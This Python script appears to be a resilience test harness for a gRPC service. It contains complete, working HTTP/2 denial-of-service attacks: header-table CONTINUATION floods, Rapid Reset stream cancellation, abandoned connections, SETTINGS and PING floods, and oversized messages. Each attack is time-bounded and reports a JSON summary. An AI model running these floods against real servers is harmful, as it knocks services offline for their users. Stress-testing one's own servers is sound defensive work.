"""Callers that attack a server as fast as they can, in their own process: attackers.py ATTACK ADDRESS [OPTION...].
Each attack is bounded in time and prints what it has done as one line of JSON."""

import argparse
import contextlib
import json
import pathlib
import ssl
import threading
import time

import grpc

import http2

EXECUTE = "/opmill.v1.OperatorService/Execute"
HEALTH = "/grpc.health.v1.Health/Check"
SOURCE = "127.0.0.9"
# A field that enters the header table of the connection; from then on the byte 0xBE refers to it.
INDEXED_FIELD = b"\x40\x01a\x00"
UNKNOWN_FIELDS = b"z\0" * 30_000_000  # 60 MB of empty fields


def half_open_calls(count, fields=16_000):
    """Calls whose message never comes, with many header fields of one byte in two frames each."""
    frames = []
    for i in range(count):
        block = http2.request_fields(HEALTH) + INDEXED_FIELD + b"\xbe" * (fields // 2)
        frames += [http2.frame(http2.HEADERS, 0, 2 * i + 1, block),
                   http2.frame(http2.CONTINUATION, http2.END_HEADERS, 2 * i + 1,
                               b"\xbe" * (fields // 2))]
    return b"".join(frames)


def reset_calls(count, resets=True, path=EXECUTE):
    """Calls of one connection, of 15 bytes each without the reset: the first one fills the header table."""
    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path.encode()),
              (b":authority", b"x"), (b"content-type", b"application/grpc"), (b"te", b"trailers")]
    table = b"".join(b"\x40" + http2.literal(*field)[1:] for field in fields)
    indexed = bytes(0x80 + 62 + i for i in range(len(fields)))
    calls = []
    for i in range(count):
        calls.append(http2.frame(http2.HEADERS, http2.END_HEADERS, 2 * i + 1,
                                 indexed if i else table))
        if resets:
            calls.append(http2.frame(http2.RST_STREAM, 0, 2 * i + 1, (8).to_bytes(4, "big")))
    return b"".join(calls)


class Attack:
    def __init__(self, options):
        self.options = options
        self.ends = time.monotonic() + options.seconds
        self.connections = 0
        self.bytes = 0
        self.failed = 0
        self._lock = threading.Lock()

    def goes_on(self):
        return time.monotonic() < self.ends

    def connect(self):
        authority = self.options.authority
        context = http2.tls_context(authority.read_bytes()) if authority else None
        self.connections += 1
        return http2.Connection(self.options.address, context, source=self.options.source)

    def repeat(self, data, keeps=0.0):
        """Sends `data` on many connections at once, for as long as the server takes it, and keeps them open
        for `keeps` seconds. Begins anew until the time is over."""
        while self.goes_on():
            with contextlib.ExitStack() as stack:
                connections = []
                with contextlib.suppress(OSError):
                    for _ in range(self.options.connections):
                        connections.append(stack.enter_context(self.connect()))
                left = {connection: data for connection in connections}
                for connection in connections:
                    connection.socket.settimeout(0)
                while left and self.goes_on():
                    for connection in list(left):
                        self._send_some(connection, left)
                kept_until = min(time.monotonic() + keeps, self.ends)
                time.sleep(max(kept_until - time.monotonic(), 0))

    def _send_some(self, connection, left):
        try:
            sent = connection.socket.send(left[connection])
        except (BlockingIOError, ssl.SSLWantWriteError):
            time.sleep(0.0001)
            return
        except OSError:
            del left[connection]
            return
        self.bytes += sent
        left[connection] = left[connection][sent:]
        if not left[connection]:
            del left[connection]

    def header_fields(self):
        self.repeat(half_open_calls(self.options.calls, self.options.fields), keeps=self.options.seconds)

    def rapid_reset(self):
        self.repeat(memoryview(reset_calls(100_000)))

    def abandon_connections(self):
        self.repeat(reset_calls(1000, resets=False), keeps=0.3)

    def control_frames(self):
        """Frames that the server must answer."""
        frame = {"settings": http2.frame(http2.SETTINGS),
                 "ping": http2.frame(http2.PING, 0, 0, bytes(8))}[self.options.method]
        self.repeat(memoryview(frame * 100_000))

    def long_messages(self):
        """60 MB to a method that takes none, on each connection one call after the other."""
        threads = [threading.Thread(target=self._send_long_messages)
                   for _ in range(self.options.connections)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def _send_long_messages(self):
        authority = self.options.authority
        options = [("grpc.max_send_message_length", -1), ("grpc.use_local_subchannel_pool", 1)]
        if authority:
            credentials = grpc.ssl_channel_credentials(authority.read_bytes())
            channel = grpc.secure_channel(self.options.address, credentials, options)
        else:
            channel = grpc.insecure_channel(self.options.address, options)
        with channel:
            call = channel.unary_unary(self.options.method)
            while self.goes_on():
                try:
                    call(UNKNOWN_FIELDS, timeout=20)
                except grpc.RpcError:
                    with self._lock:
                        self.failed += 1
                with self._lock:
                    self.connections += 1

    def run(self):
        getattr(self, self.options.attack)()
        print(json.dumps({"attack": self.options.attack, "connections": self.connections,
                          "megabytes": self.bytes // 1_000_000, "failed": self.failed}))


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", choices=["header_fields", "rapid_reset", "abandon_connections",
                                           "control_frames", "long_messages"])
    parser.add_argument("address")
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--seconds", type=float, default=3)
    parser.add_argument("--authority", type=pathlib.Path)
    parser.add_argument("--method", default=HEALTH)
    parser.add_argument("--source", default=SOURCE)
    parser.add_argument("--calls", type=int, default=12, help="of one connection")
    parser.add_argument("--fields", type=int, default=16_000, help="of one call")
    Attack(parser.parse_args()).run()


if __name__ == "__main__":
    main()
